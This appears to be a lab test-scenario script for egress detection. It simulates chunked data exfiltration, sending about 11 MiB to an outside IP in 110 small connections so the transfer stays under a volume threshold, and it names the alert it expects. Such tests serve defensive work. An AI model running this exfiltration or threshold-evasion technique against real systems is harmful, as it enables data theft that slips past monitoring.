#!/usr/bin/env bash
# scenario: 11 MiB sent out in 110 small connections (chunked exfiltration over a volume threshold)
# kind: attack
# vector: IP theft
# expect: Sustained egress to non-allowlisted destination
# chain: script
set -euo pipefail
source "$LAB_ENV"
"$INTRUDER" connect "$OUTSIDE_IP" "$OUTSIDE_PORT" 102400 110
